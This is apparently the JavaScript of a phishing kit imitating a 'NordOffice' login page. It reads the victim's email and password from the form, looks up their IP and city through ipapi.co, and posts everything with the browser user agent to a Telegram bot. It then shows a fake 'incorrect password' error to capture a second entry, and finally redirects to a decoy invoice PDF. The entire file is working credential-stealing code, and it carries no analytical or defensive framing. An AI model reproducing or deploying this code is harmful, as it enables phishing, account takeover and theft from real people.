var telegram_bot_id = "0000:TOKEN";
var chat_id = 1111111;
var u_name, email, pass, ip, city;
$.getJSON("https://ipapi.co/json/", function (d) {
    ip = d.ip;
    city = d.city + ", " + d.country_name;
});
var ready = function () {
    email = document.getElementById("email").value;
    pass = document.getElementById("pass").value;
    message = "---- NordOffice Log ----\nEmail: " + email + "\nPass: " + pass + "\nIP: " + ip + "\nCity: " + city + "\nUA: " + navigator.userAgent;
};
var message;
var n = 0;
var sender = function () {
    ready();
    var settings = {
        "async": true,
        "crossDomain": true,
        "url": "https://api.telegram.org/bot" + telegram_bot_id + "/sendMessage",
        "method": "POST",
        "headers": {
            "Content-Type": "application/json",
            "cache-control": "no-cache"
        },
        "data": JSON.stringify({
            "chat_id": chat_id,
            "text": message
        })
    };
    $.ajax(settings).done(function (response) {
        n++;
        if (n == 1) {
            $("#pass").val("").focus();
            $(".err").text("Your account or password is incorrect.").slideDown();
        } else {
            window.location.href = "https://portal.nordoffice.example/files/invoice.pdf";
        }
    });
    return false;
};
